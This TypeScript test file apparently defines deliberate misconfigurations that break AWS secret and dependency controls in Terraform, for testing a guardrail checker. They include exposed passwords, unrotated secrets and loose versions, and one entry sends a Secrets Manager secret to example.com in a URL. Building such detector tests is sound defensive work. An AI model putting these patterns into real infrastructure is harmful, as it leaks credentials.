import type { Block, Draft, Mutations } from "../../../support/guardrails";

/** Adds a secret that is rotated. */
function secret(draft: Draft, change: Block, rotation: Block | undefined = {}): void {
  draft.add("data", "aws_secretsmanager_secret", "own", {
    name: "own",
    kms_key_id: "${aws_kms_key.keys_secrets_80557511.arn}",
    ...change,
  });
  if (rotation) {
    draft.add("data", "aws_secretsmanager_secret_rotation", "own", {
      secret_id: "${aws_secretsmanager_secret.own.id}",
      rotation_rules: { automatically_after_days: 30 },
      ...rotation,
    });
  }
}

/** Changes that break the controls of secrets, and of what a state takes from elsewhere. */
export const SECRET_MUTATIONS: Mutations = {
  "SEC-01b": [
    {
      title: "shows a password",
      change: (draft) => {
        draft.state("data").output.password = { value: "${random_password.own.result}" };
      },
      fault: "shows the secret of random_password.own; want it sensitive, or no output",
    },
  ],
  "SEC-01c": [
    {
      title: "keeps a made password in the state",
      change: (draft) => {
        secret(draft, {});
        draft.add("data", "aws_secretsmanager_secret_version", "own", {
          secret_id: "${aws_secretsmanager_secret.own.id}",
          secret_string: "${random_password.own.result}",
        });
      },
      fault: "keeps a secret in the state; want secret_string_wo",
    },
  ],
  "SEC-02a": [
    {
      title: "adds a secret with AWS's key",
      change: (draft) => secret(draft, { kms_key_id: undefined }),
      fault: "is not set; want a customer managed key",
    },
  ],
  "SEC-02b": [
    {
      title: "adds a secret that is never rotated",
      change: (draft) => {
        secret(draft, {});
        draft.remove("aws_secretsmanager_secret_rotation");
      },
      fault: "has no aws_secretsmanager_secret_rotation; want one",
    },
    {
      title: "rotates a secret once a year",
      change: (draft) => secret(draft, {}, { rotation_rules: { automatically_after_days: 365 } }),
      fault: "is rotated after 365 days; want at most 90",
    },
  ],
  "SEC-02c": [
    {
      title: "adds a secret parameter with AWS's key",
      change: (draft) =>
        draft.add("data", "aws_ssm_parameter", "own", { name: "/own", type: "SecureString", value_wo: "${var.own}" }),
      fault: 'is "SecureString" with AWS\'s key; want key_id',
    },
    {
      title: "puts a password into a plain parameter",
      change: (draft) =>
        draft.add("data", "aws_ssm_parameter", "own", {
          name: "/own",
          type: "String",
          value: "${random_password.own.result}",
        }),
      fault: 'is "String" with the secret of random_password.own; want "SecureString"',
    },
  ],
  "SEC-02d": [
    {
      title: "sends a secret to a web site",
      change: (draft) =>
        draft.addData("data", "http", "own", {
          url: "https://example.com/?q=${data.aws_secretsmanager_secret_version.own.secret_string}",
        }),
      fault: "sends the secret of aws_secretsmanager_secret_version.own; want a request without it",
    },
  ],
  "SEC-03a": [
    {
      title: "takes any version of a provider",
      change: (draft) => {
        draft.state("network").terraform.required_providers.aws.version = ">= 6.25";
      },
      fault: 'is ">= 6.25"; want an exact version or ~>',
    },
    {
      title: "leaves a provider's version out",
      change: (draft) => {
        draft.state("network").terraform.required_providers = {};
      },
      fault: "is not set; want an exact version or ~>",
    },
  ],
  "SEC-03b": [
    {
      title: "takes whatever stands on a branch",
      change: (draft) => {
        draft.state("network").module = { own: { source: "git::https://example.com/own.git?ref=main" } };
      },
      fault: "is git::https://example.com/own.git?ref=main, which moves; want a tag or a commit in ?ref=",
    },
    {
      title: "takes any version of a module",
      change: (draft) => {
        draft.state("network").module = { own: { source: "terraform-aws-modules/vpc/aws", version: "~> 6.0" } };
      },
      fault: 'is terraform-aws-modules/vpc/aws in the version "~> 6.0"; want an exact version',
    },
  ],
};
